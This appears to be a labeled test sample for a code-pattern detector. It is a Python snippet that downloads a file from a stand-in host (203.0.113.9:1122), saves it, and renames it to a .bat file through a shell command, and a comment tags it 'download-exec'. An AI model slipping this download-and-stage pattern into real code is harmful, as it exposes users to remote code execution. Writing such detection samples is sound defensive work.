# the drop's file name, held by a variable, used in a command line
import subprocess
import requests

remote_url = "http://203.0.113.9:1122/connect.txt"
local_file = "local_copy.txt"
data = requests.get(remote_url)
with open(local_file, "wb") as file:
    file.write(data.content)
subprocess.Popen("cmd /c move local_copy.txt local.bat", shell=True)  # expect: download-exec
